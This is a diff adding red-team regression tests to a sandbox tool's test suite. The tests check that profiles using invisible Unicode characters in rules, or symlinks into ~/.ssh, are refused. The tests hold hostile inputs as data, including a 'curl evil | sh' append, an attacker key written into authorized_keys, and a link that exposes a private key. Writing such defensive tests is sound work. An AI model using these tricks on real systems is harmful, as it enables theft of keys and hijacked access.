@@ -5,7 +5,7 @@
  *
  * Each test was written as a failing finding first; it now guards the fix.
  */
-import { existsSync, mkdirSync, readFileSync, utimesSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readFileSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { giveTo, isolate, runners, tempDirFor, DEFAULT_PATH } from '../helpers/isolate.js';
@@ -36,6 +36,103 @@ describe.each(runners())('red team: profiles in the repository ($label)', (runne
     });
     expect(second.stdout, 'the second run got the secret the first run asked for in the profile').not.toContain('rt-secret-token-value');
     expect(second.stdout, second.stderr).toContain('token=none');
+  });
+
+  // A character that does not show makes a rule name another path or program than the one a reader sees, which
+  // does not exist: the rule hides, protects or refuses nothing, while explain prints what looks like the rule.
+  const SECRET = 'rt-unseen-secret-value';
+  it.each([
+    ['a deny rule with a zero-width space', 'filesystem:\n  deny: ["${CWD}/secret.txt\\u200b"]\n', 'filesystem.deny[0]'],
+    ['a deny rule with the newline a YAML block scalar keeps', 'filesystem:\n  deny:\n    - |\n      ${CWD}/secret.txt\n', 'filesystem.deny[0]'],
+    ['a deny rule with a space at its end', 'filesystem:\n  deny: ["${CWD}/secret.txt "]\n', 'filesystem.deny[0]'],
+    ['a deny rule with a right-to-left override', 'filesystem:\n  deny: ["${CWD}/secret.txt\\u202e"]\n', 'filesystem.deny[0]'],
+    ['a command rule with a zero-width joiner', 'commands:\n  deny: ["cat\\u200d *"]\n', 'commands.deny[0]'],
+  ])('%s is refused (exit 125, naming the key), not read as a rule that matches nothing', (_what, rules, key) => {
+    writeFileSync(join(project, 'secret.txt'), `${SECRET}\n`);
+    writeFileSync(join(project, 'isolate.yaml'), `extends: default\n${rules}`);
+    giveTo(runner, dir);
+    const r = isolate(runner, ['run', '-p', './isolate.yaml', '--', 'cat', 'secret.txt'], { cwd: project, env });
+    expect(r.stdout, 'the command read the file the profile hides').not.toContain(SECRET);
+    expect(r.status, r.stderr).toBe(125);
+    expect(r.stderr).toContain(`isolate.yaml: ${key}:`);
+  });
+
+  it('a protected name with a zero-width space is refused, not left writable', () => {
+    const script = join(project, 'deploy.sh');
+    writeFileSync(script, 'echo deploying\n');
+    writeFileSync(join(project, 'isolate.yaml'), 'extends: default\nfilesystem:\n  protect: ["deploy.sh\\u200b"]\n');
+    giveTo(runner, dir);
+    const r = isolate(runner, ['run', '-p', './isolate.yaml', '--', 'sh', '-c', 'echo "curl evil | sh" >> deploy.sh'], { cwd: project, env });
+    expect(readFileSync(script, 'utf8'), 'the command rewrote the file the profile protects').toBe('echo deploying\n');
+    expect(r.status, r.stderr).toBe(125);
+    expect(r.stderr).toContain('isolate.yaml: filesystem.protect[0]:');
+  });
+
+  it('extends naming a file with a zero-width space is refused, not read as the file beside it a reader opens', () => {
+    writeFileSync(join(project, 'strict.yaml'), 'extends: strict\n');
+    writeFileSync(join(project, 'strict\u200b.yaml'), 'extends: default\nenvironment: {pass: [RT_API_TOKEN]}\n');
+    writeFileSync(join(project, 'isolate.yaml'), 'extends: "./strict\\u200b.yaml"\n');
+    giveTo(runner, dir);
+    const r = isolate(runner, ['run', '-p', './isolate.yaml', '--', 'sh', '-c', 'echo "token=${RT_API_TOKEN:-none}"'], {
+      cwd: project,
+      env: { ...env, RT_API_TOKEN: SECRET },
+    });
+    expect(r.stdout, 'the command got the variable the file it really extends passes').not.toContain(SECRET);
+    expect(r.status, r.stderr).toBe(125);
+    expect(r.stderr).toContain('isolate.yaml: extends:');
+  });
+
+  // Under strict the project is read-only, so a link in it is not one the command can repoint (rule-links.ts): but the
+  // repository chose it, and a rule that reads like a file of the project opened one of the user's secret stores.
+  describe('a rule for a path in the project that a link in the repository takes elsewhere', () => {
+    let ssh: string;
+    beforeEach(() => {
+      ssh = join(dir, 'home', '.ssh');
+      mkdirSync(ssh, { recursive: true });
+      writeFileSync(join(ssh, 'id_ed25519'), `${SECRET}\n`);
+      writeFileSync(join(ssh, 'authorized_keys'), 'ssh-ed25519 AAAA user@laptop\n');
+      mkdirSync(join(project, 'docs'));
+      symlinkSync('../../home/.ssh/id_ed25519', join(project, 'docs', 'logo.png'));
+      symlinkSync('../../home/.ssh/authorized_keys', join(project, 'docs', 'build.log'));
+    });
+
+    it('extends: ./base.yaml, a link to one of the user\'s own profiles, does not give the run what that profile grants (exit 125)', () => {
+      const own = join(dir, 'home', '.config', 'isolate', 'profiles');
+      mkdirSync(own, { recursive: true });
+      writeFileSync(join(own, 'work.yaml'), 'extends: strict\nenvironment: {pass: [RT_API_TOKEN]}\n');
+      symlinkSync('../home/.config/isolate/profiles/work.yaml', join(project, 'base.yaml'));
+      writeFileSync(join(project, 'isolate.yaml'), 'extends: ./base.yaml\n');
+      giveTo(runner, dir);
+      const r = isolate(runner, ['run', '-p', './isolate.yaml', '--', 'sh', '-c', 'echo "token=${RT_API_TOKEN:-none}"'], {
+        cwd: project,
+        env: { ...env, RT_API_TOKEN: SECRET },
+      });
+      expect(r.stdout, 'the run got what the user\'s own profile grants').not.toContain(SECRET);
+      expect(r.status, r.stderr).toBe(125);
+      expect(r.stderr).toContain(`${join(project, 'base.yaml')}`);
+    });
+
+    it('read: ${CWD}/docs/logo.png does not show the private key it links to (exit 125, naming the link)', () => {
+      writeFileSync(join(project, 'isolate.yaml'), 'extends: strict\nfilesystem:\n  read: ["${CWD}/docs/logo.png"]\n');
+      giveTo(runner, dir);
+      const r = isolate(runner, ['run', '-p', './isolate.yaml', '--', 'cat', 'docs/logo.png'], { cwd: project, env });
+      expect(r.stdout, 'the command read the private key').not.toContain(SECRET);
+      expect(r.status, r.stderr).toBe(125);
+      expect(r.stderr).toContain(`filesystem.read[0]: ${join(project, 'docs', 'logo.png')}`);
+    });
+
+    it('write: ${CWD}/docs/build.log, or --allow-write docs/build.log, does not let the command add a key to ~/.ssh/authorized_keys', () => {
+      writeFileSync(join(project, 'isolate.yaml'), 'extends: strict\nfilesystem:\n  write: ["${CWD}/docs/build.log"]\n');
+      giveTo(runner, dir);
+      const append = ['sh', '-c', 'echo "ssh-ed25519 BBBB attacker" >> docs/build.log'];
+      const r = isolate(runner, ['run', '-p', './isolate.yaml', '--', ...append], { cwd: project, env });
+      const flag = isolate(runner, ['run', '-p', 'strict', '--allow-write', 'docs/build.log', '--', ...append], { cwd: project, env });
+      expect(readFileSync(join(ssh, 'authorized_keys'), 'utf8'), 'the command added a key the host\'s sshd obeys').not.toContain('attacker');
+      expect(r.status, r.stderr).toBe(125);
+      expect(r.stderr).toContain('filesystem.write[0]');
+      expect(flag.status, flag.stderr).toBe(125);
+      expect(flag.stderr).toContain('--allow-write[0]');
+    });
   });
 
   it('a profile\'s audit.log does not make isolate delete a file of the user named like its lock (<log>.lock)', () => {
